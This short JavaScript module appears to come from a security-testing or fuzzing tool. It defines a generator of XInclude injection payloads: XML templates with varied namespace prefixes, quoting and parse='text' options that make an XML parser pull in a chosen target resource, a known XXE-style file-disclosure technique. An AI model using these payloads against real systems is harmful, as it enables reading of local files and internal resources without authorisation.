import { xxeGenerator } from '../xxe-generator.js';

/** XInclude (W3C, 3.1): no document type at all, and it works inside of other documents. */
export const xinclude = xxeGenerator({
  name: 'xinclude',
  rules: {
    start: [
      '{declaration}{break}<{root:r} xmlns:{prefix:p}="http://www.w3.org/2001/XInclude"><{prefix:p}:include {parse} href={q:q}{target}{q:q}/></{root:r}>',
      '<{root:r} xmlns:{prefix:p}="http://www.w3.org/2001/XInclude">{break}<{child:c}><{prefix:p}:include href={q:q}{target}{q:q} {parse}></{prefix:p}:include></{child:c}>{break}</{root:r}>',
      '{declaration}<{root:r}><{child:c}><{prefix:p}:include xmlns:{prefix:p}="http://www.w3.org/2001/XInclude" {parse} href={q:q}{target}{q:q}/></{child:c}></{root:r}>',
      '{declaration}<{root:r}><include xmlns="http://www.w3.org/2001/XInclude" {parse} href={q:q}{target}{q:q}><fallback>{letters}</fallback></include></{root:r}>',
    ],
    prefix: ['xi', 'x', 'inc', 'xinclude', '{letters}'],
    parse: ['parse="text"', "parse='text'", 'parse="text"', 'parse="text" encoding="utf-8"', 'parse="xml"'],
  },
});
